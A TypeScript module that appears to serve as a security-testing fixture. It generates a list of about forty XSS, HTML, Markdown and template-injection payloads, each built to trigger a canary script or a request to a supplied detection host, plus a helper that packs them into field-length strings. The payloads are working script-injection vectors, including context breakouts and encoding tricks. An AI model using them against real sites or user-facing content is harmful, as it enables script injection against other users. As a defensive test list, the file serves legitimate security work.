/** Texts that would run, or ask another server for something, wherever they are taken for more than text. */

/** `at` is where a run or a request would be noticed. */
export const scripts = (at: string): string[] => {
  const run = `(window.ran=(window.ran||0)+1,fetch('${at}/ran'))`;
  const coded = run.replaceAll('(', '&#40;').replaceAll("'", '&#39;');
  return [
    `<script>${run}</script>`,
    `"><script>${run}</script>`,
    `'><img src=x onerror="${run}">`,
    `<img src="${at}/img">`,
    `<img srcset="${at}/srcset 1x">`,
    `<svg/onload="${run}">`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<svg><script href="${at}/svg"></script></svg>`,
    `<svg><use href="${at}/use#x"/><image href="${at}/image"/></svg>`,
    `<iframe srcdoc="<script>parent.${run.slice(1, -1)}</script>"></iframe>`,
    `<iframe src="javascript:parent.ran=1"></iframe><iframe src="${at}/frame"></iframe>`,
    `<object data="${at}/object"></object><embed src="${at}/embed">`,
    `<link rel="stylesheet" href="${at}/css"><link rel="prefetch" href="${at}/prefetch">`,
    `<style>@import url("${at}/import");*{background:url("${at}/background")}</style>`,
    `<p style="background:url(${at}/style)">p</p>`,
    `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    `<base href="${at}/"><form action="${at}/form"><input autofocus onfocus="${run}"></form>`,
    `<video poster="${at}/poster" src="${at}/video" autoplay onerror="${run}"></video><audio src="${at}/audio" autoplay>`,
    `<details open ontoggle="${run}"><summary>s</summary></details>`,
    `<a href="javascript:${run}" autofocus onfocus="${run}" tabindex=1>a</a>`,
    `<a href=" java\tscript:${coded}">b</a>`,
    `</title><script>${run}</script><title>`,
    `</textarea><script>${run}</script>`,
    `</script><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `&lt;img src=x onerror="${run}"&gt;`,
    `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
    `![picture](${at}/markdown)`,
    `![picture][r] [link][r] [go](javascript:${run}) [go](data:text/html,<script>${run}</script>)`,
    `[r]: ${at}/reference "t"`,
    `<javascript:${run}> [b](vbscript:x) [c](  java\nscript:${run})`,
    `[d](&#106;avascript:${coded}) \\<img src=x onerror="${run}"> \\![e](${at}/escaped)`,
    `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %> #{${run}}`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `"onmouseover="${run}" autofocus onfocus="${run}" x="`,
    `\u202e<img src=x onerror="${run}">\u2066`,
    `\`</code><img src=x onerror="${run}">\``,
    `| a |\n|---|\n| <img src=x onerror="${run}"> |`,
  ];
};

/** All of them again, joined to texts no longer than a field takes. */
export const scriptsWithin = (at: string, most: number): string[] => {
  const texts: string[] = [];
  for (const one of scripts(at)) {
    const last = texts.at(-1);
    if (one.length > most) continue;
    if (last !== undefined && last.length + one.length + 1 <= most)
      texts[texts.length - 1] = `${last} ${one}`;
    else texts.push(one);
  }
  return texts;
};
